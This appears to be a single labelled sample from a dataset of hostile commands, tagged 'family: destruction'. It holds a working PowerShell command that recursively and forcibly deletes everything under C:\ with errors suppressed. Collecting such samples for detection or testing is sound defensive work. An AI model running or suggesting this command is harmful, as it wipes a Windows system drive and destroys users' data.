# description: Walks all of C:\ with Get-ChildItem and pipes every item to Remove-Item.
# family: destruction
Get-ChildItem -Path C:\ -Force |
    Remove-Item -Recurse -Force -ErrorAction SilentlyContinue
